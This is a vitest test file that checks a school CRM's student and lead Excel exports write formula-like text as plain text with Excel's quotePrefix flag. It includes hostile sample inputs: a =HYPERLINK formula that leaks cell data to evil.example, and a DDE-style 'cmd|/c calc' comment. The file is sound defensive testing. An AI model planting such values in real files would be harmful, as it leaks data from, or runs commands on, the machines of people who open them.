// Issue 15: a cell whose text starts with =, +, -, @ (names, comments, reasons) is written so that Excel shows it
// as text and never runs it as a formula. A student named =HYPERLINK(...) and a lead with formula-like name and
// comment are downloaded as staff would, and the file is read back twice: with exceljs (the cell is a string with
// the exact text, no formula) and as its XML (a shared-string cell without <f>, whose style carries Excel's
// quotePrefix flag, so the text stays text even when someone edits the cell). Numbers stay numbers.
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { describe, expect, it } from 'vitest';
import { eduFixture } from './eduFixtures';
import { backends, useTestApp, type TestApp } from './harness';

const EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';

async function download(t: TestApp, path: string): Promise<Uint8Array> {
  const token = (await t.signInAs('DIRECTOR')).access_token;
  const res = await t.app.request(path, { headers: { authorization: `Bearer ${token}` } });
  expect(res.status, await res.clone().text()).toBe(200);
  return new Uint8Array(await res.arrayBuffer());
}

/** The cell's raw XML and the <xf> of its style, from the first sheet. */
async function rawCell(bytes: Uint8Array, address: string) {
  const zip = await JSZip.loadAsync(bytes);
  const sheet = await zip.file('xl/worksheets/sheet1.xml')!.async('string');
  const styles = await zip.file('xl/styles.xml')!.async('string');
  const cell = new RegExp(`<c r="${address}"[^>]*?(?:/>|>.*?</c>)`).exec(sheet)?.[0] ?? '';
  const styleIndex = Number(/ s="(\d+)"/.exec(cell)?.[1] ?? 0);
  const cellXfs = /<cellXfs[^>]*>(.*?)<\/cellXfs>/s.exec(styles)?.[1] ?? '';
  const xf = cellXfs.match(/<xf\b[^>]*?(?:\/>|>.*?<\/xf>)/gs)?.[styleIndex] ?? '';
  return { cell, xf };
}

/** The row of the sheet whose column `column` holds `text`. */
function rowWith(sheet: ExcelJS.Worksheet, column: number, text: string): ExcelJS.Row {
  let found: ExcelJS.Row | undefined;
  sheet.eachRow((row) => {
    if (row.getCell(column).value === text) found = row;
  });
  expect(found, `a row with ${text}`).toBeDefined();
  return found!;
}

function expectText(cell: ExcelJS.Cell, text: string) {
  expect(cell.type).toBe(ExcelJS.ValueType.String);
  expect(cell.value).toBe(text);
  expect(cell.formula).toBeUndefined();
}

describe.each(backends())('formula-like text in exports on %s', (backend) => {
  const t = useTestApp(backend);

  it('writes a student named =HYPERLINK(...) as text, marked quotePrefix, with the balance still a number', async () => {
    const f = eduFixture(t);
    const filial = await t.filialId('Chilonzor');
    const student = await f.student(filial, EVIL_NAME);
    const bytes = await download(t, `/api/students/excel/?filial=${filial}&q=${encodeURIComponent('HYPERLINK')}`);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0];
    const row = rowWith(sheet, 2, EVIL_NAME);
    expectText(row.getCell(2), EVIL_NAME);
    // The phone starts with + too: the same text, as text, not a number or a formula.
    expectText(row.getCell(3), student.phone);
    expect(row.getCell(8).type).toBe(ExcelJS.ValueType.Number);

    const name = await rawCell(bytes, `B${row.number}`);
    expect(name.cell).toMatch(/ t="s"/);
    expect(name.cell).not.toMatch(/<f>/);
    expect(name.xf).toMatch(/quotePrefix="1"/);
    // A plain cell is written as before: no flag on the header's style.
    expect((await rawCell(bytes, 'B1')).xf).not.toMatch(/quotePrefix/);
  });

  it('writes a lead whose name and comment start with -, + and @ as text', async () => {
    const token = (await t.signInAs('DIRECTOR')).access_token;
    const filial = await t.filialId('Chilonzor');
    const name = `-2+3 Lid ${process.pid}`;
    const comment = '@SUM(1+1)\tcmd|/c calc';
    const created = await t.call('POST', '/api/lid/', { token, body: { filial, full_name: name, phone: `+99890${String(process.pid).padStart(7, '7').slice(-7)}`, comment } });
    expect(created.status, created.text).toBe(201);
    const bytes = await download(t, `/api/lid/excel/?filial=${filial}`);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
    const row = rowWith(workbook.worksheets[0], 2, name);
    expectText(row.getCell(2), name);
    expectText(row.getCell(10), comment);
    for (const column of ['B', 'J']) expect((await rawCell(bytes, `${column}${row.number}`)).xf).toMatch(/quotePrefix="1"/);
    // The row number stays a number.
    expect(row.getCell(1).type).toBe(ExcelJS.ValueType.Number);
  });
});
